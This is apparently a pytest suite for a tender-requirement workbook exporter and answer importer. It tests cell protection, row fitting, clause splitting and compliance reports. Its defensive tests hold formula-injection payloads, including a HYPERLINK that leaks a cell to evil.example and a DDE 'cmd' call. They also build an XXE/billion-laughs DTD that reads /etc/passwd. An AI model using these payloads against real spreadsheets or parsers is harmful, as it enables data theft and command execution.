"""Issue 20: the bidder's requirement workbook, read back with openpyxl, and the answers imported again."""

from __future__ import annotations

import json
import re
import textwrap
import zipfile

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.draft.assemble import assemble
from generator.library.open import open_library

from tests.conftest import REPO
from tests.test_libreoffice import needs_soffice

EXCEL_MAX_ROW_PT = 409
LINE_PT = 15  # one line of 11-point Calibri
EXCEL_MAX_CELL = 32767

# A clause long enough to be split: a lead-in paragraph with a list of twelve long items, and prose.
_ITEM = "the Supplier keeps a record of item {n} that names the system, the owner, the date of the last review and the reviewer"
_PROSE = ("The Supplier shall keep the record current and show it to the Customer on request, and shall "
          "correct any error the Customer points out within {{ fix_days }}. ") * 4
LONG_CLAUSE = {
    "id": "epsilon", "version": "1.0.0", "status": "approved", "category": "operations", "obligation": "shall",
    "languages": ["sv", "en"],
    "title": {"sv": "Register över system", "en": "Register of systems"},
    "text": {lang: f"{_PROSE}\n\nThe record shall contain:\n\n"
             + "".join(f"{n}. {_ITEM.format(n=n)};\n" for n in range(1, 13))
             + f"\n{_PROSE}\n\n{_PROSE}\n" for lang in ("sv", "en")},
    "parameters": {"fix_days": {"type": "integer", "unit": "days", "min": 1, "max": 30, "default": 10,
                                "label": {"sv": "rättelsetid", "en": "time to correct"}}},
    "applies_to": {"service_types": ["datacenter"]},
    "tender_evidence": {"sv": "Ett exempel på registret.", "en": "A sample of the register."},
    "verification": {"sv": "Registret.", "en": "The register."},
}


@pytest.fixture
def tender_library(library):
    """The test library with the long clause added (pilot: desk and hall; the clause binds only the hall)."""
    import yaml

    (library / "clauses" / "epsilon.yaml").write_text(yaml.safe_dump(LONG_CLAUSE, allow_unicode=True, sort_keys=False,
                                                                     width=1000), encoding="utf-8")
    return library


def _export(klausul, root, agreement, path, *extra):
    result = klausul(root, "export", "requirements", agreement, "-o", str(path), *extra)
    assert result.exit_code == 0, result.stderr
    return openpyxl.load_workbook(path)


def _wrapped_lines(text: str, width: int) -> int:
    """An estimate independent of the generator's own: textwrap at one character per width unit."""
    return sum(max(1, len(textwrap.wrap(line, width, break_long_words=True, break_on_hyphens=False)))
               for line in text.split("\n"))


def _rows(ws):
    header = [c.value for c in ws[1]]
    return header, [dict(zip(header, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]


# --- the workbook ---------------------------------------------------------------------------------

@pytest.mark.parametrize("where, agreement", [("test", "pilot"), ("repo", "fjallby-kustlinjen-it"),
                                              ("repo", "fjallby-cloud-collaboration")])
def test_workbook_is_protected_answerable_and_fits_excel(where, agreement, tender_library, klausul, tmp_path):
    root = tender_library if where == "test" else REPO
    draft = assemble(open_library(root)[0], agreement)
    wb = _export(klausul, root, agreement, tmp_path / "req.xlsx")
    overview, ws = wb.worksheets
    answers = ("Ja", "Nej", "Delvis") if draft.language == "sv" else ("Yes", "No", "Partly")
    last = ws.max_row

    # the drop-down on the answer column (H), for every requirement row
    (rule,) = ws.data_validations.dataValidation
    assert rule.type == "list" and rule.formula1 == '"' + ",".join(answers) + '"'
    assert str(rule.sqref) == f"H2:H{last}" and rule.showErrorMessage and rule.errorStyle == "stop"

    # protected without a password; requirement cells locked, the three answer cells not
    for sheet in (overview, ws):
        assert sheet.protection.sheet and not sheet.protection.password
    for row in ws.iter_rows(min_row=2):
        assert [c.protection.locked for c in row] == [True] * 7 + [False] * 3 + [True]
    assert ws.column_dimensions["K"].hidden and not ws.column_dimensions["C"].hidden

    # every text fits: a cell under Excel's limit, a row under its tallest height at the column widths
    widths = [ws.column_dimensions[chr(ord("A") + i)].width for i in range(11)]
    for row in ws.iter_rows():
        for cell, width in zip(row, widths):
            text = "" if cell.value is None else str(cell.value)
            assert len(text) <= EXCEL_MAX_CELL
            if cell.column <= 10:
                assert _wrapped_lines(text, int(width)) * LINE_PT <= EXCEL_MAX_ROW_PT, (cell.coordinate, text[:80])
        assert ws.row_dimensions[row[0].row].height <= EXCEL_MAX_ROW_PT

    # the hidden identity ties every row to the agreement, the library version and the unit
    header, rows = _rows(ws)
    fingerprint = {v for label, v in overview.iter_rows(min_row=3, max_col=2, values_only=True)
                   if label in ("Library version", "Bibliotekets version")}
    assert len(fingerprint) == 1
    idents = [r[header[10]].split("|") for r in rows]
    assert {(a, f) for a, f, _, _ in idents} == {(agreement, fingerprint.pop())}
    assert [k.split("@")[0] for _, _, k, _ in idents if "/" not in k or k.endswith("/a")] == [c.id for c in draft.clauses]
    assert all(re.fullmatch("[0-9a-f]{12}", h) for *_, h in idents)  # the hash of the unit as exported

    # the overview shows each service's C / I / A levels and whether it processes personal data
    values = [list(r) for r in overview.iter_rows(values_only=True)]
    yes, no = ("Ja", "Nej") if draft.language == "sv" else ("Yes", "No")
    for s in draft.services:
        assert [s.name, s.type, s.confidentiality, s.integrity, s.availability, yes if s.personal_data else no] in \
            [r[:6] for r in values]
    shall = sum(r[header[3]] in ("Ska", "Shall") for r in rows)
    facts = {r[0]: r[1] for r in values if r[0]}
    assert facts.get("Mandatory (shall)", facts.get("Ska-krav")) == str(shall)


def test_long_clause_splits_into_numbered_parts_without_losing_a_word(tender_library, klausul, tmp_path):
    from generator.draft.markup import blocks_text
    from generator.draft.requirements import requirements

    draft = assemble(open_library(tender_library)[0], "pilot")
    number, clause = next((n, c) for n, c in draft.numbered_clauses() if c.id == "epsilon")
    parts = [r for r in requirements(draft) if r.clause_id == "epsilon"]
    assert len(parts) >= 3
    assert [r.number for r in parts] == [f"{number} {chr(ord('a') + i)}" for i in range(len(parts))]
    # the parts, in order, are the clause text exactly (less the "applies to" note, which is a column)
    assert clause.blocks[0] != parts[0].blocks[0]
    assert "\n".join(r.text for r in parts) == blocks_text(clause.blocks[1:])
    assert {r.applies_to for r in parts} == {"Data hall"}
    # a list cut between items keeps its numbers: some later part starts at an item after 1
    continued = [line for r in parts[1:] for line in r.text.split("\n")[:1] if re.match(r"\d+\. ", line)]
    assert continued and all(not line.startswith("1. ") for line in continued)
    assert parts[0].tender_evidence == "A sample of the register."
    assert {r.tender_evidence for r in parts[1:]} == {f"See {parts[0].number}."}

    # the workbook, the CSV and the Word list number the same units in the same order
    wb = _export(klausul, tender_library, "pilot", tmp_path / "req.xlsx")
    xlsx_numbers = [row[0] for row in wb.worksheets[1].iter_rows(min_row=2, values_only=True)]
    assert xlsx_numbers == [r.number for r in requirements(draft)]
    out = tmp_path / "req.docx"
    assert klausul(tender_library, "export", "requirements", "pilot", "--format", "docx", "-o", str(out)).exit_code == 0
    document = docx.Document(str(out))
    docx_numbers = [row.cells[0].text for t in document.tables if t.rows[0].cells[0].text == "No."
                    for row in t.rows[1:]]
    assert docx_numbers == xlsx_numbers
    import csv
    import io

    csv_rows = list(csv.DictReader(io.StringIO(klausul(tender_library, "export", "requirements", "pilot",
                                                       "--format", "csv").stdout)))
    assert [r["No."] for r in csv_rows] == xlsx_numbers
    assert "\n".join(r["Requirement"] for r in csv_rows if r["Clause"].startswith("epsilon@")) == \
        blocks_text(clause.blocks[1:])
    # and Word continues the cut list at the same number
    starts = re.findall(r'<w:startOverride w:val="(\d+)"/>',
                        zipfile.ZipFile(out).read("word/numbering.xml").decode("utf-8"))
    first_continued = int(continued[0].split(".")[0])
    assert str(first_continued) in starts
    from tests.ooxml_validity import assert_valid_docx

    assert_valid_docx(out)  # the continued list's numbering is valid Open XML


@pytest.mark.parametrize("text", [
    "Word " * 6000,  # one paragraph of 30,000 characters without a sentence end
    "A sentence that ends here. " * 1500,  # many sentences in one paragraph
    "x" * 5000 + " tail",  # one word longer than a whole row
    "| a | b |\n|---|---|\n" + "".join(f"| row {n} with some words | more words in the cell {n} |\n" for n in range(120)),
    "- " + "\n- ".join(f"item {n} " + "w " * 300 for n in range(6)),  # list items each longer than a row
])
def test_no_text_is_too_long_for_a_row_and_no_character_is_lost(text):
    from generator.core.rowfit import TEXT_WIDTH, UNIT_LINES
    from generator.draft.markup import blocks_text, parse
    from generator.draft.requirements import split_units

    blocks = parse(text)
    units = split_units(blocks)
    assert len(units) > 1
    for unit in units:
        assert _wrapped_lines(blocks_text(unit), TEXT_WIDTH) <= UNIT_LINES + 1  # textwrap counts a little differently
    squeeze = lambda s: re.sub(r"\s+", "", s)  # noqa: E731
    assert squeeze("".join(blocks_text(u) for u in units)) == squeeze(blocks_text(blocks))


_WORD = st.text(alphabet="abcdefghij\u00e5\u00e4\u00f6ABC0123.,;:!?", min_size=1, max_size=40)


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["para", "ol", "ul"]),
                          st.lists(st.lists(_WORD, min_size=1, max_size=120), min_size=1, max_size=8),
                          st.integers(min_value=0, max_value=2500)), min_size=1, max_size=8))
def test_any_clause_text_splits_into_fitting_parts_in_order(parts):
    """Paragraphs and lists of any length, words up to 2,500 letters: every part fits, nothing is lost or moved."""
    from generator.core.rowfit import TEXT_WIDTH, UNIT_LINES, lines_needed
    from generator.draft.markup import blocks_text, parse
    from generator.draft.requirements import split_units

    chunks = []
    for kind, items, long_word in parts:
        lines = [" ".join(words) for words in items]
        if long_word:
            lines[0] += " " + "w" * long_word
        if kind == "para":
            chunks.append(" ".join(lines))
        else:
            chunks.append("\n".join(("1. " if kind == "ol" else "- ") + line for line in lines))
    blocks = parse("\n\n".join(chunks))
    units = split_units(blocks)
    assert all(lines_needed(blocks_text(u), TEXT_WIDTH) <= UNIT_LINES for u in units)
    squeeze = lambda s: re.sub(r"\s+", "", s)  # noqa: E731
    assert squeeze("".join(blocks_text(u) for u in units)) == squeeze(blocks_text(blocks))


# --- answers read back ---------------------------------------------------------------------------

def _fill(path, answers: dict[str, str | None], edit: tuple[str, str, str] | None = None, descriptions=None):
    """Answer the workbook as a bidder would: answers by requirement number, one locked cell edited."""
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[1]
    for row in ws.iter_rows(min_row=2):
        number = row[0].value
        row[7].value = answers.get(number, "Yes")
        row[8].value = (descriptions or {}).get(number, f"How we meet {number}.")
        row[9].value = f"Attachment {number}"
        if edit and number == edit[0]:
            row[2].value = row[2].value.replace(edit[1], edit[2], 1)
    wb.save(path)


def test_answers_round_trip_into_a_compliance_report(tender_library, klausul, tmp_path):
    from generator.draft.requirements import requirements
    from generator.render.requirements import fingerprint

    draft = assemble(open_library(tender_library)[0], "pilot")
    units = {r.number: r for r in requirements(draft)}
    eps = [n for n, r in units.items() if r.clause_id == "epsilon"]
    alpha = next(n for n, r in units.items() if r.clause_id == "alpha")
    beta = next(n for n, r in units.items() if r.clause_id == "beta")  # the one recommended (should) requirement
    gamma = next(n for n, r in units.items() if r.clause_id == "gamma")
    assert units[beta].obligation == "should" and all(units[n].obligation == "shall" for n in (alpha, gamma, *eps))
    path = tmp_path / "answers.xlsx"
    _export(klausul, tender_library, "pilot", path)
    _fill(path, {alpha: "No", eps[0]: "Partly", eps[1]: None, beta: "partly", gamma: "=1+1"},
          edit=(eps[3], "shall", "may"),
          descriptions={alpha: "=HYPERLINK(\"http://x\")"})

    result = klausul(tender_library, "import", "answers", "pilot", str(path))
    assert result.exit_code == 1, result.stderr
    e = units[eps[3]]
    all_rows = []
    for n, r in units.items():
        raw = {alpha: "No", eps[0]: "Partly", eps[1]: "", beta: "partly", gamma: "=1+1"}.get(n, "Yes")
        status = {alpha: "not met", eps[0]: "partly", eps[1]: "unanswered", beta: "scored",
                  gamma: "invalid answer"}.get(n, "met")
        kind = "Should" if n == beta else "Shall"
        desc = "=HYPERLINK(\"http://x\")" if n == alpha else f"How we meet {n}."
        all_rows.append(f"| {n} | {kind} | {raw or '–'} | {status} | {desc} | Attachment {n} |")
    expected = [
        "# Compliance report: Pilot security schedule", "",
        "- Agreement id: pilot", "- File: answers.xlsx", f"- Library version: {fingerprint(draft)}",
        "- Result: Mandatory requirements are not met", "",
        "## Mandatory requirements not met (disqualifying)", "",
        "| No. | Heading | Met (Yes/No/Partly) | Bidder's description |", "|---|---|---|---|",
        f"| {eps[0]} | Register of systems | Partly | How we meet {eps[0]}. |",  # in the list's order
        f"| {alpha} | Alerts & \\<reports\\> | No | =HYPERLINK(\"http://x\") |", "",
        "## Unanswered requirements", "",
        "| No. | Heading | Shall/Should |", "|---|---|---|",
        f"| {eps[1]} | Register of systems | Shall |", "",
        "## Invalid answers", "",
        "| No. | Heading | Met (Yes/No/Partly) |", "|---|---|---|",
        f"| {gamma} | Processing on instructions | =1+1 |", "",
        "## Score of recommended (should) requirements", "",
        "0.5 of 1 points", "",
        "| No. | Heading | Met (Yes/No/Partly) | Points |", "|---|---|---|---|",
        f"| {beta} | Recovery | partly | 0.5 |", "",
        "## Edits to locked cells (not accepted; the requirement stands as issued)", "",
        "| No. | Column | Change |", "|---|---|---|",
        f"| {eps[3]} | Requirement | \u201cshall\u201d \u2192 \u201cmay\u201d |", "",
        "## Rows that are not part of the requirement list", "",
        "None.", "",
        "## All answers", "",
        "| No. | Shall/Should | Met (Yes/No/Partly) | Assessment | Bidder's description | Reference to attachment |",
        "|---|---|---|---|---|---|", *all_rows,
    ]
    got = result.stdout.splitlines()
    assert got == expected, "\n".join(got)

    data = json.loads(klausul(tender_library, "import", "answers", "pilot", str(path), "--format", "json").stdout)
    assert data["met"] is False and data["disqualified"] == [eps[0], alpha] and data["missing"] == [eps[1]]
    assert data["invalid"] == [gamma] and data["summary"]["score"] == 0.5 and data["summary"]["max_score"] == 1
    assert [(x["number"], x["column"], x["found"]) for x in data["edits"]] == [
        (eps[3], "Requirement", e.text.replace("shall", "may", 1))]
    assert data["edits"][0]["expected"] == e.text
    assert len(data["answers"]) == len(units)

    report = tmp_path / "report.xlsx"
    assert klausul(tender_library, "import", "answers", "pilot", str(path), "--format", "xlsx",
                   "-o", str(report)).exit_code == 1
    wb = openpyxl.load_workbook(report)
    answers = wb.worksheets[1]
    row = next(r for r in answers.iter_rows(min_row=2) if r[0].value == alpha)
    assert row[3].value == "No" and row[6].value == "=HYPERLINK(\"http://x\")" and row[6].data_type == "s"
    _no_formulas(report)


def test_every_requirement_met_exits_0_in_swedish(klausul, tmp_path):
    path = tmp_path / "svar.xlsx"
    wb = _export(klausul, REPO, "fjallby-kustlinjen-it", path)
    ws = wb.worksheets[1]
    for row in ws.iter_rows(min_row=2):
        row[7].value = "Ja"
    wb.save(path)
    result = klausul(REPO, "import", "answers", "fjallby-kustlinjen-it", str(path))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "- Resultat: Alla ska-krav uppfylls" in result.stdout.splitlines()
    assert "## Ska-krav som inte uppfylls (diskvalificerande)\n\nInga.\n" in result.stdout


def test_another_agreements_or_library_versions_workbook_is_refused(tender_library, klausul, tmp_path):
    other = tmp_path / "gaps.xlsx"
    _export(klausul, tender_library, "gaps", other)
    result = klausul(tender_library, "import", "answers", "pilot", str(other))
    assert result.exit_code == 2
    assert "is the requirement workbook of agreement 'gaps', not 'pilot'" in result.stderr
    assert "Traceback" not in result.stderr

    mine = tmp_path / "pilot.xlsx"
    _export(klausul, tender_library, "pilot", mine)
    clause = tender_library / "clauses" / "alpha.yaml"
    clause.write_text(clause.read_text(encoding="utf-8").replace("version: 1.2.0", "version: 1.3.0"), encoding="utf-8")
    result = klausul(tender_library, "import", "answers", "pilot", str(mine))
    assert result.exit_code == 2 and "exported from another library version" in result.stderr

    text = tmp_path / "notes.xlsx"
    text.write_text("not a workbook", encoding="utf-8")
    result = klausul(tender_library, "import", "answers", "pilot", str(text))
    assert result.exit_code == 2 and "not an Excel workbook" in result.stderr and "Traceback" not in result.stderr


# --- formula injection (issue 16) ----------------------------------------------------------------

def _no_formulas(path):
    """No worksheet of the file holds a formula (<f>) or a cell typed as one."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode("utf-8"), name
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3"]


def test_names_that_look_like_formulas_stay_text(library, klausul, tmp_path):
    agreement = library / "agreements" / "pilot.yaml"
    text = agreement.read_text(encoding="utf-8")
    text = text.replace("title: Pilot security schedule", "title: " + json.dumps(HOSTILE[0]))
    text = text.replace("name: Testby Municipality", "name: " + json.dumps(HOSTILE[1]))
    agreement.write_text(text, encoding="utf-8")
    service = library / "services" / "hall.yaml"
    service.write_text(service.read_text(encoding="utf-8").replace("en: Data hall", "en: '@SUM(1+1)'"), encoding="utf-8")
    clause = library / "clauses" / "beta.yaml"
    clause.write_text(clause.read_text(encoding="utf-8").replace("en: Recovery", "en: '+1+1'")
                      .replace("en: Test records.", "en: '-2+3'"), encoding="utf-8")
    assert klausul(library, "validate").exit_code == 0

    out = tmp_path / "req.xlsx"
    wb = _export(klausul, library, "pilot", out)
    _no_formulas(out)
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert HOSTILE[0] in values and "=cmd|' /C calc'!A0 (212000-0001)" in values and "+1+1" in values

    for args in (("export", "requirements", "pilot", "--format", "csv"), ("coverage", "pilot", "--format", "csv"),
                 ("followup", "pilot", "--format", "csv")):
        import csv
        import io

        result = klausul(library, *args)
        assert result.exit_code == 0, result.stderr
        cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], args
    csv_text = klausul(library, "export", "requirements", "pilot", "--format", "csv").stdout
    assert "'+1+1" in csv_text and "'-2+3" in csv_text


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
                                             ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (3, 3)])
def test_csv_neutralises_what_a_spreadsheet_would_run(value, expected):
    from generator.render.csvsafe import neutral

    assert neutral(value) == expected


# --- LibreOffice ---------------------------------------------------------------------------------

@needs_soffice
def test_workbook_prints_every_requirement_to_its_last_word(klausul, tmp_path):
    """Converted by LibreOffice Calc, each row's text is printed whole: a row too low would cut its end."""
    from generator.draft.requirements import requirements
    from tests.ooxml_validity import pdf_texts

    draft = assemble(open_library(REPO)[0], "fjallby-kustlinjen-it")
    path = tmp_path / "req.xlsx"
    _export(klausul, REPO, "fjallby-kustlinjen-it", path)
    text = pdf_texts([path], tmp_path)["req.xlsx"]
    units = requirements(draft)
    for r in units:
        last = " ".join(r.text.replace("\u00a0", " ").split()[-3:])
        assert last in text, (r.number, last)
    assert "Anbudsgivarens beskrivning" in text and "Hänvisning till bilaga" in text


def test_deleted_added_and_duplicated_rows_are_reported(tender_library, klausul, tmp_path, monkeypatch):
    path = tmp_path / "answers.xlsx"
    _export(klausul, tender_library, "pilot", path)
    _fill(path, {})
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[1]
    gone = ws.cell(2, 1).value
    copied = [c.value for c in ws[3]]
    ws.delete_rows(2)  # the bidder removed the first requirement
    last = ws.max_row
    for column, value in enumerate(copied, 1):
        ws.cell(last + 1, column).value = value  # and pasted another one twice
    ws.cell(last + 2, 1).value = "99.9"
    ws.cell(last + 2, 8).value = "Yes"
    ws.cell(last + 2, 11).value = "pilot|" + copied[10].split("|")[1] + "|invented@1.0.0"
    wb.save(path)
    data = json.loads(klausul(tender_library, "import", "answers", "pilot", str(path), "--format", "json").stdout)
    assert data["missing"] == [gone] and data["met"] is False
    assert [u["row"] for u in data["unknown_rows"]] == [last + 1, last + 2]
    assert data["unknown_rows"][1]["identity"].endswith("|invented@1.0.0")
    assert next(a for a in data["answers"] if a["number"] == gone)["row"] is None

    import generator.review.answers as answers

    monkeypatch.setattr(answers, "MAX_UNPACKED", 1000)  # as a zip bomb would be: refused before unpacking
    result = klausul(tender_library, "import", "answers", "pilot", str(path))
    assert result.exit_code == 2 and "unpacks to more than" in result.stderr


@needs_soffice
def test_a_workbook_saved_again_by_libreoffice_imports_without_false_edits(tender_library, klausul, tmp_path):
    """A bidder who answers in LibreOffice Calc: its saved file keeps the drop-down and protection, and
    reading it back finds the answers and no edit the bidder did not make."""
    import subprocess

    from tests.ooxml_validity import SOFFICE

    path = tmp_path / "answers.xlsx"
    _export(klausul, tender_library, "pilot", path)
    _fill(path, {})
    out = tmp_path / "saved"
    subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless", "--convert-to",
                    "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(path)], capture_output=True, timeout=600)
    saved = out / "answers.xlsx"
    assert saved.exists()
    ws = openpyxl.load_workbook(saved).worksheets[1]
    assert ws.protection.sheet and ws.data_validations.dataValidation
    assert not ws["H2"].protection.locked and ws["C2"].protection.locked
    result = klausul(tender_library, "import", "answers", "pilot", str(saved), "--format", "json")
    data = json.loads(result.stdout)
    assert result.exit_code == 0 and data["met"] is True, result.stdout
    assert data["summary"]["edits"] == 0 and data["summary"]["missing"] == 0
    assert {a["raw"] for a in data["answers"]} == {"Yes"}


def test_a_workbook_from_before_the_agreement_changed_is_refused(tender_library, klausul, tmp_path):
    """Values come from the agreement too: a changed override is not the bidder's edit, and not silently mixed."""
    path = tmp_path / "answers.xlsx"
    _export(klausul, tender_library, "pilot", path)
    _fill(path, {})
    agreement = tender_library / "agreements" / "pilot.yaml"
    agreement.write_text(agreement.read_text(encoding="utf-8") + "parameters: {alert_time: 12}\n", encoding="utf-8")
    result = klausul(tender_library, "import", "answers", "pilot", str(path))
    assert result.exit_code == 2, result.stdout
    assert "requirement(s) 7.1 read differently now than when the workbook was exported" in result.stderr


def test_a_password_protects_the_sheets_when_asked_for(library, klausul, tmp_path):
    from openpyxl.utils.protection import hash_password

    path = tmp_path / "req.xlsx"
    wb = _export(klausul, library, "pilot", path, "--password", "s3cret")
    assert [ws.protection.password for ws in wb.worksheets] == [hash_password("s3cret")] * 2
    _fill(path, {})
    assert klausul(library, "import", "answers", "pilot", str(path)).exit_code == 0
    result = klausul(library, "export", "requirements", "pilot", "--format", "csv", "--password", "x")
    assert result.exit_code == 2 and "needs --format xlsx" in result.stderr


def test_a_verification_too_long_for_a_row_is_warned_about_and_stops_the_export(library, klausul, tmp_path):
    clause = library / "clauses" / "gamma.yaml"
    long = "The instruction and every record of its use. " * 40  # about 1,800 characters, 50 lines at 36
    clause.write_text(clause.read_text(encoding="utf-8").replace(
        "verification: {sv: Instruktionen., en: The instruction.}", f"verification: {{sv: Instruktionen., en: '{long}'}}"),
        encoding="utf-8")
    result = klausul(library, "validate", "--strict")
    assert result.exit_code == 1
    assert "clauses/gamma.yaml:14: verification.en: too long for one row of the requirement workbook" in result.stderr
    assert "[too-long-for-row] (warning)" in result.stderr
    result = klausul(library, "export", "requirements", "pilot", "-o", str(tmp_path / "req.xlsx"))
    assert result.exit_code == 1 and "clause 'gamma': its verification needs" in result.stderr
    assert not (tmp_path / "req.xlsx").exists()
    assert klausul(library, "build", "pilot", "--out", str(tmp_path / "out")).exit_code == 0  # the contract is fine


def test_a_workbook_with_a_dtd_is_refused(library, klausul, tmp_path):
    """Entities (XXE, billion laughs) in a returned workbook: refused with a message, never expanded."""
    path = tmp_path / "answers.xlsx"
    _export(klausul, library, "pilot", path)
    evil = tmp_path / "evil.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(evil, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet2.xml":
                data = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">'
                        b'<!ENTITY c SYSTEM "file:///etc/passwd">]>' + data.replace(b"<t>No.</t>", b"<t>&b;&c;</t>", 1))
            target.writestr(info, data)
    result = klausul(library, "import", "answers", "pilot", str(evil))
    assert result.exit_code == 2 and "not an Excel workbook (.xlsx) that can be read" in result.stderr
    assert "root:" not in result.stdout + result.stderr


def test_columns_the_bidder_inserted_or_moved_do_no_harm(library, klausul, tmp_path):
    path = tmp_path / "answers.xlsx"
    _export(klausul, library, "pilot", path)
    _fill(path, {"5.1": "No"})  # 5.1 is beta, the should-requirement
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[1]
    ws.protection.sheet = False
    ws.insert_cols(2)  # the bidder's own column, before the heading
    ws.cell(1, 2).value = "Our internal note"
    ws.cell(2, 2).value = "=1/0"
    wb.save(path)
    data = json.loads(klausul(library, "import", "answers", "pilot", str(path), "--format", "json").stdout)
    assert data["summary"]["edits"] == 0 and data["summary"]["unknown_rows"] == 0
    assert [(a["number"], a["raw"]) for a in data["answers"]] == [("5.1", "No"), ("6.1", "Yes"), ("7.1", "Yes")]
    assert data["met"] is True and data["summary"]["score"] == 0 and data["summary"]["max_score"] == 1
